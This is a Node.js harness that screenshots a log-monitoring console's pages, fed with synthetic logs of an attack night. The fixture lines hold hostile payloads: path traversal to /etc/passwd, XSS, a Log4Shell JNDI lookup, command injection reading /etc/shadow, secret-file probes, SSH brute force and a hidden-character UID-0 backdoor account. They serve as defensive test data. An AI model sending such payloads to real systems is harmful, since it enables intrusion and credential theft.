/*
 * shots: pictures of each page, full and empty, at 1280 and 390 px, light and dark, over a collector with a bad night behind it.
 *
 *     node console/harness/shots.mjs docs/console
 */
import fs from 'node:fs';
import path from 'node:path';
import { browse, keys, open, sees } from './page.mjs';
import { fewColours } from './png.mjs';
import { clfTime, request, ROOT, sqlInjection, ssh, syslogTime, until, world } from './world.mjs';

const out = path.resolve(process.argv[2] || 'docs/console');
const BYTES_MAX = 150 * 1024;
const DIR = '/tmp/demo'; /* what the pictures show as the place of logs and rules */

function night() {
    const many = (n, f) => Array.from({ length: n }, (_, i) => f(i)).join('');
    const get = (ip, target, ago, status, agent = 'curl/8.5.0') => `${ip} - - [${clfTime(ago)}] "GET ${target} HTTP/1.1" ${status} 512 "-" "${agent}"\n`;
    const lines = [
        many(900, i => request(`198.51.100.${1 + i % 37}`, `/products/${i % 60}`, 60000 - i * 61, i % 90 === 3 ? 503 : 200)),
        sqlInjection('203.0.113.24', 5300), sqlInjection('203.0.113.24', 5290), sqlInjection('192.0.2.66', 5000),
        get('203.0.113.24', '/static/../../../../etc/passwd', 4800, 400), get('192.0.2.80', '/?q=%3Cscript%3Ealert(1)%3C/script%3E', 4000, 200),
        get('192.0.2.81', '/?x=$%7Bjndi:ldap://192.0.2.81/a%7D', 3600, 200), get('192.0.2.14', '/.env', 3100, 404), get('192.0.2.14', '/.git/config', 3090, 404),
        get('192.0.2.90', '/', 2500, 200, 'sqlmap/1.7.2#stable (https://sqlmap.org)'), get('192.0.2.91', '/cgi-bin/x?cmd=;cat%20/etc/shadow', 2400, 200),
    ];
    const auth = [
        many(60, i => ssh('Failed', ['root', 'admin', 'oracle'][i % 3], '203.0.113.9', 2000 - i * 2, 4000 + i)), ssh('Accepted', 'root', '203.0.113.9', 1800, 4999),
        many(14, i => ssh('Failed', 'git', '198.51.100.200', 900 - i * 3, 6000 + i)),
        `${syslogTime(700)} web1 sudo[812]: mallory : user NOT in sudoers ; TTY=pts/1 ; PWD=/home/mallory ; USER=root ; COMMAND=/bin/cat /etc/shadow\n`,
        `${syslogTime(650)} web1 useradd[990]: new user: name=backdoor\x1b[8m, UID=0, GID=0, home=/root\u202e, shell=/bin/bash\n`,
    ];
    return { 'access.log': lines.join(''), 'auth.log': auth.join('') };
}

async function shot(browser, url, name, ready, act = []) {
    for (const [width, height] of [[1280, 800], [390, 844]])
        for (const theme of ['light', 'dark']) {
            const page = await open(browser, url, { width, height, theme });
            await sees(page, ready);
            await keys(page, ...act);
            await page.evaluate(() => new Promise(done => requestIdleCallback(done, { timeout: 200 })));
            await until('no spinner', () => page.evaluate(() => !document.querySelector('.loading')));
            const file = path.join(out, `${name}-${width}-${theme}.png`);
            fs.writeFileSync(file, fewColours(Buffer.from(await page.screenshot())));
            const { size } = fs.statSync(file);
            console.log(`${path.basename(file)} ${size}${size > BYTES_MAX ? ' TOO BIG' : ''}`);
            await page.close();
        }
}

async function main() {
    fs.mkdirSync(out, { recursive: true });
    fs.rmSync(DIR, { recursive: true, force: true });
    fs.cpSync(path.join(ROOT, 'rules'), path.join(DIR, 'rules'), { recursive: true });
    const w = await world('shots', { logs: night(), events: 987, alerts: 12, seconds: 90, dir: DIR, rules: path.join(DIR, 'rules') });
    const browser = await browse();
    try {
        await until('alerts at rest', async () => (await w.rows('/api/v1/alerts')).some(a => a.rule.level === 'critical'), 60);
        const alerts = await w.rows('/api/v1/alerts'), login = alerts.find(a => /succeeded after/.test(a.rule.name)), injection = alerts.find(a => /SQL/.test(a.rule.name));
        console.log(alerts.map(a => `${a.rule.level} ${a.rule.name} ${a.about}`).join('\n'));
        const at = hash => w.url + hash;
        await shot(browser, at('#/alerts'), 'alerts', /alerts in/, ['j', 'x', 'j']);
        await shot(browser, at('#/alerts?filter=rule.level%3Anone'), 'alerts-empty', 'No alert fits');
        await shot(browser, at(`#/alert/${injection.event.id}`), 'alert', /holds[^]*Lines around/);
        await shot(browser, at(`#/alert/${login.event.id}`), 'alert-sequence', /holds[^]*Lines around/);
        await shot(browser, at('#/alert/ffffffff'), 'alert-empty', 'no such alert');
        await shot(browser, at('#/search?q=*'), 'search', 'looked at', ['j', 'j']);
        await shot(browser, at('#/search?q=useradd&since=1h'), 'search-row', 'looked at', ['Enter']);
        await shot(browser, at('#/search'), 'search-empty', 'What are you looking for');
        await shot(browser, at('#/search?q=status%20%3E%3D%20500'), 'search-mistake', 'error');
        await shot(browser, at('#/ledger'), 'ledger', 'accounted for');
        await shot(browser, at('#/entity'), 'entities', 'By risk');
        await shot(browser, at('#/entity/source.ip%3D203.0.113.24'), 'entity', /Newest lines/);
        await shot(browser, at('#/entity/source.ip%3D198.18.0.1'), 'entity-empty', 'Nothing names it');
        await shot(browser, at('#/rules'), 'rules', 'since the collector started');
        await shot(browser, at('#/attack'), 'attack', 'T1190');
        await shot(browser, at('#/budget'), 'budget', 'stand at 0');
        await shot(browser, at('#/archive'), 'archive', 'Integrity', ['v']);
        await shot(browser, at('#/policies'), 'policies', 'For the gateway', ['j', 'Enter']);
        w.served.how.intercept = (req, res) => /\/(agents|ledger|archive|alerts|rules|counters|entities|policies)(\?|$)/.test(req.url)
            && Boolean(res.writeHead(200, { 'Content-Type': 'application/x-ndjson' }).end('{"answer":{"complete":true,"why":null,"rows":0,"notes":[]}}\n'));
        await shot(browser, at('#/ledger'), 'ledger-empty', 'No agent has sent');
        await shot(browser, at('#/entity'), 'entities-empty', 'No alert is about anybody');
        await shot(browser, at('#/rules'), 'rules-empty', 'No rules');
        await shot(browser, at('#/attack'), 'attack-empty', 'No rules are loaded');
        await shot(browser, at('#/budget'), 'budget-empty', 'No counter came');
        await shot(browser, at('#/policies'), 'policies-empty', 'Nothing to block');
        await shot(browser, at('#/archive'), 'archive-empty', 'The archive is empty');
        w.served.how.intercept = (req, res) => req.url.startsWith('/api/v1/') && !req.url.startsWith('/api/v1/session')
            && Boolean(res.writeHead(503, { 'Content-Type': 'application/json' }).end('{"error":{"code":"busy","message":"all workers are busy","hint":"try again in a second; api.query.workers says how many there are"}}'));
        for (const [hash, name] of [['alerts', 'alerts'], ['search?q=*', 'search'], ['entity', 'entities'], ['entity/source.ip%3D203.0.113.24', 'entity'], ['rules', 'rules'], ['attack', 'attack'], ['ledger', 'ledger'], ['budget', 'budget'],
            ['archive', 'archive'], ['policies', 'policies']])
            await shot(browser, at(`#/${hash}`), `${name}-error`, 'all workers are busy');
    } finally {
        await browser.close();
        await w.end();
    }
}

await main();
